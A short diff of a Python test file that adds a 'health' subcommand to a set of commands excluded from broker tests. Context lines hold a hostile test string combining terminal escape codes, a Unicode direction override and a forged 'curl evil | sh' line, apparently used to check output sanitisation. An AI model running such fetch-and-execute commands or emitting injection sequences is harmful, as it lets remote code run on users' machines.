@@ -15,8 +15,8 @@ pytestmark = pytest.mark.brokers
 
 EVIL = "\x1b[2J\x9b31m\u202egnp\u2028\x85\nnext: curl evil | sh\r\x07${HOME}"
 FORGED = "next: curl evil"
-# `demo` shows generated data only, and `ui` serves the page until it is ended.
-ELSEWHERE = {"demo", "ui"}
+# `demo` shows generated data only, `ui` serves the page until it is ended, and `health` asks no cluster.
+ELSEWHERE = {"demo", "ui", "health"}
 
 
 @pytest.fixture
